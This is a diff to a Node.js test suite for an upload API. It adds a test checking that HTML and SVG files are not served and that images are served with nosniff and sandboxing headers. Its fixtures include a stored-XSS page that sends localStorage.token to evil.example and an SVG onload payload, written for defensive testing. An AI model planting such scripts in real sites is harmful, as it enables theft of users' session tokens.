@@ -1,4 +1,6 @@
 import assert from 'node:assert/strict';
+import { mkdir, writeFile } from 'node:fs/promises';
+import path from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { crc32, deflateSync } from 'node:zlib';
 import sharp from 'sharp';
@@ -139,6 +141,30 @@ describe('POST /api/upload', () => {
     assert.equal(folder.status, 400);
     assert.equal(folder.body.errors.contentType, 'Must be one of: books, essays, artworks, news, plays, general');
     assert.equal((await upload(form(png, 'a.png', 'books'), false)).status, 401);
+  });
+
+  it('serves only the types an upload can have, sandboxed, whatever is on the disk', async () => {
+    const dir = path.join(api.config.varDir, 'uploads', 'general');
+    await mkdir(dir, { recursive: true });
+    const page = '<!doctype html><script>fetch("https://evil.example/?" + localStorage.token)</script>';
+    await writeFile(path.join(dir, 'evil.html'), page);
+    await writeFile(path.join(dir, 'evil.svg'), '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
+    await writeFile(path.join(dir, 'evil.htm'), page);
+    await writeFile(path.join(dir, 'page.jpg'), page);
+    for (const name of ['evil.html', 'evil.svg', 'evil.htm', 'EVIL.HTML']) {
+      const res = await fetch(`${api.url}/uploads/general/${name}`);
+      assert.equal(res.status, 404, name);
+      assert.doesNotMatch(await res.text(), /localStorage|onload/, name);
+    }
+    const disguised = await fetch(`${api.url}/uploads/general/page.jpg`);
+    assert.equal(disguised.status, 200);
+    assert.equal(disguised.headers.get('content-type'), 'image/jpeg');
+    assert.equal(disguised.headers.get('x-content-type-options'), 'nosniff');
+    assert.equal(disguised.headers.get('content-security-policy'), "default-src 'none'; sandbox");
+    const real = await upload(form(png, 'a.png', 'books', 'image/png'));
+    const served = await fetch(api.url + real.body.url);
+    assert.equal(served.headers.get('content-security-policy'), "default-src 'none'; sandbox");
+    assert.equal(served.headers.get('content-type'), 'image/png');
   });
 
   it('answers 404 for a missing upload and never lists folders', async () => {
